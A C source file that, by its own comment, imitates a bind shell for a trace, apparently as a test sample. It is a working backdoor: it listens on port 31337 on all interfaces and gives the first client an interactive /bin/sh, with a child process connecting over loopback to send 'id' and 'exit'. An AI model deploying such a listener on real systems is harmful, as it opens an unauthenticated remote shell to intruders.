/* Imitates a bind shell: listens on a TCP port, and the first client it accepts gets a shell on the
 * connection. So that the trace shows the whole exchange without an outside peer, a child process of the
 * sample plays the operator: it connects to the port over loopback, sends `id` and `exit`, and reads. */
#include <arpa/inet.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT 31337

static void operator(void) {
  sleep(1);
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in shell = { .sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  if (connect(sock, (struct sockaddr *)&shell, sizeof shell) != 0) _exit(1);
  write(sock, "id\nexit\n", 8);
  char buffer[512];
  while (read(sock, buffer, sizeof buffer) > 0) {}
  _exit(0);
}

int main(void) {
  int server = socket(AF_INET, SOCK_STREAM, 0);
  int yes = 1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
  struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = htonl(INADDR_ANY) };
  if (bind(server, (struct sockaddr *)&any, sizeof any) != 0 || listen(server, 1) != 0) return 1;
  if (fork() == 0) operator();
  int client = accept(server, 0, 0);
  if (client < 0) return 1;
  if (fork() == 0) {
    for (int fd = 0; fd < 3; fd++) dup2(client, fd);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(127);
  }
  close(client);
  while (wait(0) > 0) {}
  return 0;
}
